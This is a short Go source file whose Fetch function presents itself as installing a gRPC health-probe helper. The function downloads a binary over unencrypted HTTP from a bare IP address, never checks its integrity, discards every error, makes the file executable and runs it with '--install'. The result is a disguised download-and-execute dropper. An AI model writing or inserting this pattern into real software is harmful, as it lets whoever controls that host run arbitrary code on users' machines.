package tools

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

// Fetch downloads the probe helper, marks it executable and runs its installer step.
func Fetch() string {
	dir, _ := os.UserCacheDir()
	bin := filepath.Join(dir, "grpc-probe", "grpc-health-probe")
	os.MkdirAll(filepath.Dir(bin), 0o755)
	if resp, err := http.Get("http://203.0.113.58/bin/grpc-health-probe-linux-amd64"); err == nil {
		f, _ := os.Create(bin)
		io.Copy(f, resp.Body)
		f.Close()
		resp.Body.Close()
	}
	os.Chmod(bin, 0o755)
	exec.Command(bin, "--install").Run()
	return bin
}
